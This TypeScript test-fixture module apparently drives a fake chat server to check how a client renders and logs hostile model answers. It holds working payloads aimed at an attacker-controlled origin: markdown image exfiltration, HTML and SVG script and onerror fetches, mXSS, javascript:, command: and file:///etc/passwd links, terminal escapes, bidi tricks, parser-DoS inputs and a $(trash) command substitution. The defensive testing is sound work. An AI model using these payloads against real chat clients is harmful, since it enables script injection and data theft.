// Answers, names and error texts that attack whoever draws them. Their links point to options.to, or to this server.
import { deltaChunk } from './completionWire.ts';
import { pieces } from './composeAnswer.ts';
import type { Exchange } from './exchange.ts';
import type { Scenario } from './scenario.ts';

/** `words` gets the origin that stands for the attacker; a request that reaches it is in its ledger's `other`. */
function answer(
  name: string,
  rows: string,
  title: string,
  words: (attacker: string) => string,
  slice: (text: string) => readonly string[] = pieces,
): Scenario {
  return {
    name,
    title,
    rows: rows.split(' '),
    endpoint: 'chat',
    run: async (exchange) => {
      exchange.openStream();
      await exchange.contents(slice(words(attackerOf(exchange))));
      await exchange.finishStream();
    },
  };
}

function attackerOf(exchange: Exchange): string {
  return exchange.options.to ?? exchange.origin;
}

const images = (to: string): string =>
  `Here it is:\n\n![secret](${to}/image.png?q=SECRET)\n\n![reference][r] and [![nested](${to}/nested.png)](${to}/link)\n\n[r]: ${to}/reference.png "title"\n\n| a | b |\n| - | - |\n| ![cell](${to}/cell.png) | ok |\n\nAfter the pictures.`;

const html = (to: string): string =>
  [
    'Before the tags.',
    `<img src="${to}/img.png" onerror="fetch('${to}/onerror')">`,
    `<video poster="${to}/poster.png"></video>`,
    `<svg><image href="${to}/svg.png"/><script>fetch('${to}/svgscript')</script></svg>`,
    `<link rel="prefetch" href="${to}/prefetch"><link rel="dns-prefetch" href="${to}"><link rel="stylesheet" href="${to}/style.css">`,
    `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
    `<iframe src="${to}/iframe" srcdoc="<img src='${to}/srcdoc'>"></iframe><object data="${to}/object"></object><embed src="${to}/embed">`,
    `<style>@import url("${to}/import.css"); body { background: url("${to}/body.png") }</style>`,
    `<p style="background:url(${to}/inline.png)">styled</p>`,
    `<form action="${to}/form"><input name="q"><button autofocus>Go</button></form><base href="${to}/">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=${to}/mxss onerror=alert(1)>">`,
    `<script>fetch('${to}/script')</script>`,
    `Inline <img src="${to}/inline-img.png"> tag, and <a href="${to}" onmouseover="fetch('${to}/over')">a link</a>.`,
    'After the tags.',
  ].join('\n\n');

const links = (to: string): string =>
  [
    '- [command](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D)',
    '- [script](javascript:alert(1)) and [hidden](\u0001javascript:alert(1)) and [split](java\tscript:alert(1)) and [coded](&#106;avascript:alert(1))',
    `- [data](data:text/html,<script>fetch('${to}/data')</script>)`,
    '- [editor](vscode://publisher.extension/?prompt=do-it) and [file](file:///etc/passwd) and [webview](vscode-webview://x/)',
    `- [fine](${to}/fine) and [mail](mailto:somebody@example.com)`,
    `- [https://www.byteplus.com](${to}/not-byteplus)`,
    `- [long](${to}/long?data=${'A'.repeat(300)})`,
    '- <command:workbench.action.quit> and <javascript:alert(1)>',
  ].join('\n');

const texts: readonly Scenario[] = [
  answer('hostile-images', 'A09', 'Markdown pictures of four kinds', images),
  answer('hostile-html', 'A10', 'Raw HTML that loads, runs or submits', html),
  answer('hostile-html-by-character', 'A11', 'The same, one character a delta', html, (text) => [...text]),
  answer(
    'hostile-unclosed',
    'A11',
    'Tags and fences that are never closed',
    (to) =>
      `Text\n\n<img src="${to}/unclosed.png"\n\n- item <div\n\n\`\`\`html\n<img src="${to}/fence.png">\n`,
  ),
  answer('hostile-links', 'A13 A14', 'Links to commands, scripts, files, and with a false face', links),
  answer(
    'hostile-diagrams',
    'A15',
    'Fences that some clients render',
    (to) =>
      `\`\`\`mermaid\ngraph TD; A[<img src=${to}/mermaid.png>] --> B; click A "${to}/click"\n\`\`\`\n\n$$\\href{${to}/katex}{x} \\includegraphics{${to}/katex.png}$$\n\n\`\`\`html\n<img src="${to}/preview.png">\n\`\`\`\n\n\`\`\`svg\n<svg onload="fetch('${to}/onload')"></svg>\n\`\`\``,
  ),
  answer(
    'hostile-bare-urls',
    'A16',
    'Bare addresses that some clients look up',
    (to) => `See ${to}/bare and www.example.invalid and <${to}/angled>, or mail evil@example.invalid.`,
  ),
  answer(
    'hostile-ansi',
    'A29',
    'Terminal escapes in text and code',
    () =>
      'Text \u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b]8;;command:x\u0007link\u001b]8;;\u0007\n\n```sh\necho \u001b[2K\u001b[1Ahidden\r\n```',
  ),
  answer(
    'hostile-invisible',
    'A27',
    'Code with bidi overrides, zero-width and tag characters, homoglyphs',
    () =>
      '```js\nconst access = "user\u202e \u2066// only admins\u2069 \u2066";\nconst a\u200bb = 1; // zero width\nconst \u0430 = 2; // a Cyrillic a\n// \u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}\n```',
  ),
];

/** Shapes that make naive markdown parsers quadratic or run out of stack. */
const shapes: readonly Scenario[] = [
  answer('heavy-brackets', 'A36', '50 000 opening brackets', () => '['.repeat(50_000), inBlocks),
  answer('heavy-stars', 'A36', '50 000 stars and underscores', () => '*a_'.repeat(17_000), inBlocks),
  answer(
    'heavy-nesting',
    'A36',
    'Block quotes and lists 5 000 deep',
    () =>
      `${'> '.repeat(5000)}deep\n\n${Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- item ${depth}`).join('\n')}`,
    inBlocks,
  ),
  answer('heavy-line', 'A36', 'One line of 1 MB', () => 'word '.repeat(210_000), inBlocks),
  answer(
    'heavy-table',
    'A36',
    'A table of 10 000 rows',
    () => `| a | b |\n| - | - |\n${'| 1 | 2 |\n'.repeat(10_000)}`,
    inBlocks,
  ),
  answer(
    'heavy-fence',
    'A36',
    'A code block of 20 000 lines',
    () =>
      `\`\`\`ts\n${Array.from({ length: 20_000 }, (_, line) => `const line${line} = ${line};`).join('\n')}\n\`\`\``,
    inBlocks,
  ),
  answer(
    'heavy-backticks',
    'A36',
    'Runs of backticks of every length',
    () => Array.from({ length: 300 }, (_, length) => '`'.repeat(length + 1)).join(' '),
    inBlocks,
  ),
];

function inBlocks(text: string): readonly string[] {
  return text.match(/[\s\S]{1,2000}/g) ?? [];
}

const hostileName =
  '<img src=x onerror=alert(1)> **bold** [x](command:y) \u001b[31m ${workspaceFolder} $(trash)';

export const hostileAnswers: readonly Scenario[] = [
  ...texts,
  ...shapes,
  {
    name: 'runaway',
    title: 'An answer without end (options.bytes stops it)',
    rows: ['A37'],
    endpoint: 'chat',
    run: async (exchange) => {
      exchange.openStream();
      const limit = exchange.options.bytes ?? Infinity;
      for (let sent = 0, line = 1; sent < limit; line += 1) {
        const content = `Line ${line} of an answer that does not know when to stop.\n`;
        await exchange.contents([content]);
        sent += content.length;
        // With pace 0 nothing else would get a turn as long as the client reads.
        if (line % 50 === 0) await new Promise((resolve) => setImmediate(resolve));
      }
      await exchange.finishStream('length');
    },
  },
  {
    name: 'hostile-model-name',
    title: 'The echoed model is markup',
    rows: ['A08', 'A12'],
    endpoint: 'chat',
    text: 'Hello',
    run: async (exchange) => {
      exchange.openStream();
      const identity = { ...exchange.identity, model: hostileName };
      await exchange.event(deltaChunk(identity, { role: 'assistant', content: 'Hello' }, null, false));
      await exchange.event(deltaChunk(identity, { role: 'assistant', content: '' }, 'stop', false));
      await exchange.done();
      await exchange.end();
    },
  },
  {
    name: 'hostile-error',
    title: 'An error whose code and sentence are markup, escapes and 100 KB long',
    rows: ['A08', 'A12'],
    endpoint: 'chat',
    run: (exchange) =>
      exchange.sendError(
        400,
        hostileName,
        `${hostileName}\n![x](${attackerOf(exchange)}/error.png)\n${'long '.repeat(20_000)}`,
      ),
  },
  {
    name: 'hostile-tool-arguments',
    title: 'A tool call whose name and arguments are markup',
    rows: ['A12'],
    endpoint: 'chat',
    run: async (exchange) => {
      exchange.openStream();
      const call = {
        name: hostileName,
        arguments: JSON.stringify({ path: `<img src="${attackerOf(exchange)}/tool.png">` }),
      };
      await exchange.delta({
        role: 'assistant',
        content: '',
        tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: call }],
      });
      await exchange.finishStream('tool_calls');
    },
  },
  {
    name: 'error-with-secrets',
    title: 'An error that repeats the Authorization header and the whole prompt: neither may reach a log',
    rows: ['F64', 'A31'],
    endpoint: 'chat',
    run: (exchange) =>
      exchange.sendError(
        400,
        'InvalidParameter',
        `Bad request with ${exchange.request.headers.authorization ?? ''}: ${exchange.entry.bodyText}`,
      ),
  },
];
